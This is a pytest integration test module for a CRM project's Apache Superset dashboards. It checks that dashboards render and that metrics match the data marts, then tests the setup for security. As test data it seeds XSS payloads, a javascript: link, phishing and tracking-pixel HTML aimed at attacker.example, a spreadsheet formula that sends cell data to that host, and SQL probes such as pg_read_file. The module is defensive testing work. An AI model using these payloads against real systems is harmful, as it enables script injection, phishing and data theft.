"""The starter dashboards in Apache Superset (docs/bi.md), as `make bi` serves them after
`make demo`: Superset from its own environment against a built world, the bundle of bi/superset
imported through its API as the BI login (role bi_reader), each dashboard opened in headless
Chromium (its screenshot saved in `.local/test/artifacts/bi/`) and its charts' queries read
back from Superset's chart data API.

The same Superset (one start per module: a start and import take most of this module's time)
is then attacked as an outsider and an unlucky user would (the outside attack of the change,
its findings fixed): the world's queue also holds what a customer can write (a message with
HTML in it, a platform link with a quote in it), and every command line on the machine is
watched while Superset starts and imports."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
import requests
import yaml

from social_crm.serve import superset
from social_crm.settings import WarehouseUrl
from social_crm.warehouse.bi_login import ensure_login
from social_crm_dev import bi
from tests.conftest import REPO
from tests.end_to_end.conftest import copy_of
from tests.ui import browser as ui

pytestmark = pytest.mark.integration

ARTIFACTS = Path(os.environ.get("SOCIAL_CRM_TEST_DIR") or REPO / ".local" / "test") / "artifacts"
SCREENSHOTS = ARTIFACTS / "bi"
BUNDLE = REPO / "bi" / "superset"
DASHBOARDS = {
    doc["slug"]: doc
    for doc in (yaml.safe_load(p.read_text()) for p in sorted(BUNDLE.glob("dashboards/*.yaml")))
}
RENDER_TIMEOUT_MS = 120_000
# Superset answers in JSON floats; the marts' figures are numeric
TOLERANCE = Decimal("1e-9")
ATTACKER = "attacker.example"  # a host outside this machine: the browser records, then aborts
# what any X user can post at the brand, as it lands in marts.open_conversations.message_text
PIXEL_MESSAGE = f'hi <img src="https://{ATTACKER}/pixel.png?who=agent"> help please'
LINK_MESSAGE = f'your refund: <a href="https://{ATTACKER}/refund">verify your account</a>'
SCRIPT_MESSAGE = '<img src=x onerror="window.__xss_text=1">'
JS_URL = "javascript:window.__xss_link=1"
# a platform link with a quote in it: pasted into an <a href="...">, it would add markup
URL_ATTACKER = "url-attacker.example"
QUOTED_URL = f'https://www.instagram.com/p/x"><img src="https://{URL_ATTACKER}/p.png'
# a spreadsheet formula, as a customer can write it; CSV exports must not hand it to Excel
FORMULA_MESSAGE = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")'


def _charts_of(dashboard: dict) -> list[str]:
    return [
        item["meta"]["sliceName"]
        for item in dashboard["position"].values()
        if isinstance(item, dict) and item.get("type") == "CHART"
    ]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# the customer-written rows, first in the queue (its order is queue_position ascending)
ATTACK_ROWS = [
    (-3, PIXEL_MESSAGE, "https://www.instagram.com/p/one/"),
    (-2, LINK_MESSAGE, "https://www.instagram.com/p/two/"),
    (-1, SCRIPT_MESSAGE, JS_URL),
    (0, FORMULA_MESSAGE, QUOTED_URL),
]


def _queue_row(conn: psycopg.Connection, position: int, text: str, url: str) -> None:
    conn.execute(
        "insert into marts.open_conversations (queue_position, priority, channel, brand_key,"
        " message_type, occurred_at, waited_business_seconds, sla_target_seconds,"
        " is_sla_breached, sentiment, message_text, message_url)"
        " values (%s, 'high', 'instagram', 'ours', 'comment', now(), 60, 3600, false,"
        " 'negative', %s, %s)",
        (position, text, url),
    )


class ProcessWatch:
    """Every process command line on this machine, sampled until stopped (what `ps -ef`
    shows any local user)."""

    def __init__(self) -> None:
        self.seen: set[str] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            for proc in Path("/proc").glob("[0-9]*"):
                try:
                    line = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
                except OSError:
                    continue
                self.seen.add(line)
            time.sleep(0.02)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> set[str]:
        self._stop.set()
        self._thread.join()
        return self.seen


@dataclass
class Served:
    server: bi.RunningSuperset
    client: superset.Client
    dashboards: list[superset.Dashboard]
    warehouse: WarehouseUrl
    bi_user: str
    bi_password: str
    secret_key: str
    port: int
    command_lines: set[str] = field(default_factory=set)


@pytest.fixture(scope="module")
def served(built, warehouse_url, tmp_path_factory) -> Iterator[Served]:
    """Superset on a free port with its own metadata, the dashboards imported, connected to a
    copy of the built world (its queue with the customer-written rows added) as a BI login of
    its own (role bi_reader); every command line on the machine watched while it starts and
    imports."""
    with copy_of(built, warehouse_url, tmp_path_factory.mktemp("world") / "truth") as (
        pipeline,
        _,
    ):
        url = WarehouseUrl.parse(pipeline.db.libpq())
        bi_user, bi_password = f"bi_superset_{os.getpid()}", secrets.token_urlsafe(16)
        with psycopg.connect(url.libpq(), autocommit=True) as conn:
            ensure_login(conn, bi_user, bi_password)
            for row in ATTACK_ROWS:
                _queue_row(conn, *row)
        admin_password, secret_key = secrets.token_urlsafe(16), secrets.token_urlsafe(32)
        home, port = tmp_path_factory.mktemp("superset"), _free_port()
        watch = ProcessWatch()
        watch.start()
        try:
            with bi.running(home, port, admin_password, secret_key) as server:
                dashboards = bi.provision(server, url, bi_user, bi_password)
                client = superset.Client(server.url, server.admin_user, admin_password)
                seen = watch.stop()
                yield Served(
                    server,
                    client,
                    dashboards,
                    url,
                    bi_user,
                    bi_password,
                    secret_key,
                    port,
                    seen,
                )
        finally:
            watch.stop()


@dataclass
class DashboardVisit:
    screenshot: Path
    charts_shown: int
    errors: list[str]
    chart_rows: dict[int, int] = field(default_factory=dict)  # chart id: rows of its query


def _logged_in(context, served):
    """A new page of `context` logged in to Superset as its admin."""
    page = context.new_page()
    page.goto(f"{served.server.url}/login/")
    page.locator("input#username, input[name=username]").first.fill(served.server.admin_user)
    page.locator("input#password, input[name=password]").first.fill(served.server.admin_password)
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: "/login" not in url)
    return page


@pytest.fixture(scope="module")
def chromium(served, tmp_path_factory) -> Iterator:
    """One headless Chromium for the module's visits (a playwright BrowserContext: a start
    costs seconds), logged in to Superset as its admin (the session cookie every visit uses);
    each visit opens pages of its own and closes them."""
    with ui.browser(tmp_path_factory.mktemp("chromium")) as context:
        _logged_in(context, served).close()
        yield context


@pytest.fixture(scope="module")
def visits(served, chromium) -> dict[str, DashboardVisit]:
    """Each dashboard opened in Chromium as its admin, once every chart has rendered: its
    screenshot, the charts shown, the error boxes, and the rows of every chart data answer."""
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    seen: dict[str, DashboardVisit] = {}
    page = chromium.new_page()
    for dashboard in served.dashboards:
        answers: dict[int, int] = {}

        def on_response(response, answers=answers) -> None:
            if "/api/v1/chart/data" not in response.url:
                return
            form = json.loads(response.request.post_data or "{}").get("form_data") or {}
            body = response.json() if response.ok else {}
            rows = sum(r.get("rowcount") or 0 for r in body.get("result") or [])
            answers[int(form.get("slice_id") or 0)] = rows

        page.on("response", on_response)
        page.goto(dashboard.url, wait_until="networkidle")
        expected = len(_charts_of(DASHBOARDS[dashboard.slug]))
        holders = page.locator("[data-test='chart-grid-component']")
        holders.nth(expected - 1).wait_for(timeout=RENDER_TIMEOUT_MS)
        page.wait_for_function(
            "() => !document.querySelector('.loading, [data-test=\"loading-indicator\"]')",
            timeout=RENDER_TIMEOUT_MS,
        )
        page.wait_for_load_state("networkidle")
        page.remove_listener("response", on_response)
        shot = SCREENSHOTS / f"{dashboard.slug}.png"
        page.screenshot(path=str(shot), full_page=True)
        errors = page.locator(
            "[data-test='chart-grid-component'] .ant-alert-error,"
            " [data-test='chart-grid-component'] [role='alert']"
        ).all_inner_texts()
        seen[dashboard.slug] = DashboardVisit(shot, holders.count(), errors, answers)
    page.close()
    return seen


@pytest.mark.parametrize("slug", sorted(DASHBOARDS))
def test_each_dashboard_shows_every_chart_it_lists(visits, slug):
    assert visits[slug].charts_shown == len(_charts_of(DASHBOARDS[slug]))


@pytest.mark.parametrize("slug", sorted(DASHBOARDS))
def test_no_chart_of_a_dashboard_shows_an_error(visits, slug):
    assert visits[slug].errors == []


@pytest.mark.parametrize("slug", sorted(DASHBOARDS))
def test_each_dashboard_is_saved_as_a_screenshot(visits, slug):
    with open(visits[slug].screenshot, "rb") as png:
        assert png.read(8) == b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize("slug", sorted(DASHBOARDS))
def test_every_chart_query_of_a_dashboard_returns_rows(served, visits, slug):
    charts = served.client.get(f"/api/v1/dashboard/{slug}/charts", "charts")["result"]
    rows = {chart["slice_name"]: visits[slug].chart_rows.get(chart["id"], 0) for chart in charts}
    assert sorted(rows) == sorted(_charts_of(DASHBOARDS[slug]))
    assert {name: n for name, n in rows.items() if n < 1} == {}


def _sql_lab(served: Served, sql: str) -> dict:
    database = served.client.get("/api/v1/database/", "databases")["result"][0]["id"]
    response = served.client.http.post(
        f"{served.server.url}/api/v1/sqllab/execute/",
        json={"database_id": database, "sql": sql, "runAsync": False, "schema": "marts"},
        timeout=60,
    )
    try:
        body = response.json()
    except ValueError:
        body = {"text": response.text}
    return {"http_status": response.status_code, **(body if isinstance(body, dict) else {})}


def test_the_bi_connection_reads_the_marts(served):
    answer = _sql_lab(served, "select count(*) as n from marts.people")
    assert answer["http_status"] == 200 and answer["data"][0]["n"] > 0


def test_the_bi_connection_cannot_read_raw(served):
    answer = _sql_lab(served, "select count(*) as n from raw.webhook_events")
    assert answer["http_status"] >= 400 and "permission denied" in json.dumps(answer).lower()


def _dataset_id(served: Served, table: str) -> int:
    listed = served.client.get("/api/v1/dataset/?q=(page_size:100)", "datasets")["result"]
    return next(d["id"] for d in listed if d["table_name"] == table)


def _chart_data(served: Served, table: str, metric: str, group_by: str) -> dict:
    body = {
        "datasource": {"id": _dataset_id(served, table), "type": "table"},
        "queries": [{"columns": [group_by], "metrics": [metric], "row_limit": 1000}],
        "result_format": "json",
        "result_type": "full",
    }
    answer = served.client.post("/api/v1/chart/data", "chart data", json=body)
    return {row[group_by]: row[metric] for row in answer["result"][0]["data"]}


# a metric shown on a dashboard -> (its mart, group by, the figure straight from the mart)
FROM_THE_MARTS = {
    "x_share_of_voice": (
        "brand_daily_metrics",
        "brand_key",
        "select brand_key, sum(mentions)::numeric / nullif(sum(all_brands_mentions), 0)"
        " from marts.brand_daily_metrics group by 1",
    ),
    "sla_breach_share": (
        "brand_response_times_daily",
        "channel",
        "select channel, sum(sla_breached)::numeric / nullif(sum(messages), 0)"
        " from marts.brand_response_times_daily group by 1",
    ),
    "first_response_business_minutes_p90": (
        "customer_messages",
        "channel",
        "select channel, percentile_cont(0.9) within group"
        " (order by first_response_business_seconds / 60.0)"
        " from marts.customer_messages group by 1",
    ),
    "avg_social_clv": (
        "people_segments",
        "segment",
        "select s.segment, sum(c.social_clv) / nullif(count(*) filter (where s.is_customer), 0)"
        " from marts.people_segments as s left join marts.customer_lifetime_value as c"
        " on c.customer_id = s.person_id group by 1",
    ),
}


@pytest.mark.parametrize("metric", sorted(FROM_THE_MARTS))
def test_a_superset_metric_equals_the_marts_figure(served, metric):
    table, group_by, sql = FROM_THE_MARTS[metric]
    shown = _chart_data(served, table, metric, group_by)
    with psycopg.connect(served.warehouse.libpq()) as conn:
        expected = dict(conn.execute(sql).fetchall())
    assert shown.keys() == expected.keys()
    for key, value in expected.items():
        if value is None:
            assert shown[key] is None, key
        else:
            assert Decimal(str(shown[key])) == pytest.approx(Decimal(value), rel=TOLERANCE), key


def test_a_second_provisioning_adds_nothing(served):
    def counts() -> dict[str, int]:
        return {
            kind: served.client.get(f"/api/v1/{kind}/", kind)["count"]
            for kind in ("dashboard", "chart", "dataset", "database")
        }

    before = counts()
    bi.provision(served.server, served.warehouse, served.bi_user, served.bi_password)
    assert counts() == before


# --- the outside attack: secrets, headers, what a customer writes ------------------------


@dataclass
class CareVisit:
    requests: list[str]
    javascript_links: int
    outside_links: list[str]
    xss_flags: dict[str, object]


@pytest.fixture(scope="module")
def care_visit(served, chromium) -> CareVisit:
    """The Customer care dashboard opened in headless Chromium as its admin, once its queue
    table has rendered the messages."""
    with ui.visit(chromium, f"{served.server.url}/superset/dashboard/customer-care/") as (
        care,
        seen,
    ):
        care.get_by_text("help please").first.wait_for(timeout=RENDER_TIMEOUT_MS)
        care.wait_for_load_state("networkidle")
        care.wait_for_timeout(1000)
        links = care.locator("a").evaluate_all("els => els.map(e => e.href)")
        flags = care.evaluate(
            "() => ({text: window.__xss_text || null, link: window.__xss_link || null})"
        )
        before_clicks = list(seen.requests)
        # a click on every link the queue shows, as an agent opening the message would
        for anchor in care.locator("td a").all():
            with contextlib.suppress(Exception):  # a link that opens nothing is fine here
                anchor.click(timeout=2000)
        flags.update(care.evaluate("() => ({after_click: window.__xss_link || null})"))
        return CareVisit(
            requests=before_clicks,
            javascript_links=sum(1 for href in links if href.startswith("javascript:")),
            outside_links=[href for href in links if ATTACKER in href],
            xss_flags=flags,
        )


# --- secrets ---------------------------------------------------------------------------


def test_admin_password_never_appears_in_a_process_listing(served):
    shown = [line for line in served.command_lines if served.server.admin_password in line]
    assert shown == [], f"the admin password is on a command line: {shown[0][:120]}..."


def test_bi_login_password_never_appears_in_a_process_listing(served):
    assert not [line for line in served.command_lines if served.bi_password in line]


def test_secret_key_never_appears_in_a_process_listing(served):
    assert not [line for line in served.command_lines if served.secret_key in line]


def _action_log(served: Served) -> list[str]:
    path = served.server.home / "superset.db"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
        return [row[0] or "" for row in db.execute("select json from logs")]


def test_bi_login_password_is_not_kept_in_supersets_action_log(served):
    kept = [entry for entry in _action_log(served) if served.bi_password in entry]
    assert kept == [], f"Superset's logs table keeps the BI password: {kept[0][:160]}"


def test_bi_login_password_is_not_shown_by_supersets_log_api(served):
    answer = served.client.http.get(
        f"{served.server.url}/api/v1/log/?q=(page_size:100)", timeout=60
    )
    assert served.bi_password not in answer.text


def test_bi_login_password_is_not_in_supersets_server_log(served):
    text = (served.server.home / "superset.log").read_text(encoding="utf-8", errors="replace")
    assert served.bi_password not in text


def test_exported_dashboards_hold_no_bi_password(served):
    ids = [d["id"] for d in served.client.get("/api/v1/dashboard/", "dashboards")["result"]]
    answer = served.client.http.get(
        f"{served.server.url}/api/v1/dashboard/export/?q=!({','.join(map(str, ids))})",
        timeout=120,
    )
    assert answer.ok and served.bi_password.encode() not in answer.content


# --- the login page and the session --------------------------------------------------


def test_superset_pages_send_a_content_security_policy(served):
    answer = requests.get(f"{served.server.url}/login/", timeout=30)
    assert "Content-Security-Policy" in answer.headers


def test_superset_pages_cannot_be_framed_by_another_site(served):
    headers = requests.get(f"{served.server.url}/login/", timeout=30).headers
    framing = headers.get("X-Frame-Options", "") + headers.get("Content-Security-Policy", "")
    assert (
        "DENY" in framing.upper()
        or "SAMEORIGIN" in framing.upper()
        or ("frame-ancestors" in framing)
    )


def test_an_anonymous_visitor_reads_no_chart_data(served):
    answer = requests.post(
        f"{served.server.url}/api/v1/chart/data",
        json={
            "datasource": {"id": 1, "type": "table"},
            "queries": [{"columns": ["message_text"], "row_limit": 10}],
        },
        timeout=30,
    )
    assert answer.status_code >= 400 and "help please" not in answer.text


def test_an_anonymous_visitor_sees_no_dashboard(served):
    answer = requests.get(
        f"{served.server.url}/api/v1/dashboard/customer-care", timeout=30, allow_redirects=False
    )
    assert answer.status_code in {401, 403, 404}


def test_superset_listens_on_this_machine_only(served):
    outward = socket.gethostbyname(socket.gethostname())
    if outward.startswith("127."):
        pytest.skip("this machine has no address but loopback")
    with socket.socket() as sock:
        sock.settimeout(2)
        assert sock.connect_ex((outward, served.port)) != 0


# --- what a customer writes, on the Customer care dashboard -------------------------------


def test_a_customer_message_makes_the_care_dashboard_load_nothing_from_outside(care_visit):
    fetched = [url for url in care_visit.requests if ATTACKER in url]
    assert fetched == [], f"opening the queue fetched {fetched}"


def test_a_message_url_with_a_quote_adds_no_markup_to_the_queue(care_visit):
    fetched = [url for url in care_visit.requests if URL_ATTACKER in url]
    assert fetched == [], f"opening the queue fetched {fetched}"


def test_a_customer_message_adds_no_link_of_its_own_to_the_queue(care_visit):
    assert care_visit.outside_links == []


def test_no_link_on_the_queue_runs_javascript(care_visit):
    assert care_visit.javascript_links == 0


def test_no_script_in_a_message_or_its_link_runs_in_the_agents_browser(care_visit):
    assert care_visit.xss_flags == {"text": None, "link": None, "after_click": None}


def test_a_csv_export_of_the_queue_hands_no_formula_to_a_spreadsheet(served):
    listed = served.client.get("/api/v1/dataset/?q=(page_size:100)", "datasets")["result"]
    dataset = next(d["id"] for d in listed if d["table_name"] == "open_conversations")
    answer = served.client.http.post(
        f"{served.server.url}/api/v1/chart/data",
        json={
            "datasource": {"id": dataset, "type": "table"},
            # the customer-written rows (queue positions up to 0), not the world's own
            "queries": [
                {
                    "columns": ["message_text"],
                    "filters": [{"col": "queue_position", "op": "<=", "val": 0}],
                    "row_limit": 10,
                }
            ],
            "result_format": "csv",
            "result_type": "full",
        },
        timeout=60,
    )
    assert answer.ok and "HYPERLINK" in answer.text  # the message is in the export
    cells = [line.strip().strip('"') for line in answer.text.splitlines()]
    assert not [cell for cell in cells if cell.startswith("=")]


def test_an_anonymous_visitor_gets_no_guest_token(served):
    answer = requests.post(
        f"{served.server.url}/api/v1/security/guest_token/",
        json={
            "user": {"username": "guest"},
            "resources": [{"type": "dashboard", "id": "customer-care"}],
            "rls": [],
        },
        timeout=30,
    )
    assert answer.status_code >= 400 and "guest" not in answer.text.lower()


# --- SQL Lab as the BI login ------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "select count(*) from raw.crm_erasure_requests",
        "select count(*) from meta.erasure_log",
        "select pg_read_file('PG_VERSION')",
        "set search_path = raw; select count(*) from crm_erasure_requests",
        "select * from marts.open_conversations; select count(*) from raw.crm_customers",
    ],
    ids=["raw", "meta", "server_file", "search_path", "second_statement"],
)
def test_sql_lab_as_the_bi_login_reads_nothing_outside_marts(served, query):
    answer = _sql_lab(served, query)
    assert answer["http_status"] >= 400, f"SQL Lab answered: {json.dumps(answer)[:200]}"


def test_sql_lab_cannot_write_to_the_warehouse(served):
    answer = _sql_lab(served, "create table marts.planted (x int)")
    assert answer["http_status"] >= 400


def test_a_second_superset_on_a_taken_port_is_refused(served, tmp_path):
    """`make bi` run again while the first still serves: it must fail, not report the first
    Superset's URLs as its own and exit 0 when its gunicorn cannot bind."""
    with pytest.raises(bi.BiError):
        with bi.running(
            tmp_path / "second", served.port, secrets.token_urlsafe(16), secrets.token_urlsafe(32)
        ) as second:
            second.process.wait(timeout=120)  # a second server that did not start


def test_a_port_another_program_holds_is_named_in_the_error(tmp_path):
    """`make bi` when something else listens on SOCIAL_CRM_BI_PORT: the user is told which
    port is taken, not only that Superset stopped."""
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))
        other.listen()
        port = other.getsockname()[1]
        with pytest.raises(bi.BiError) as refused:
            with bi.running(
                tmp_path / "taken", port, secrets.token_urlsafe(16), secrets.token_urlsafe(32)
            ):
                pass
    assert str(port) in str(refused.value)
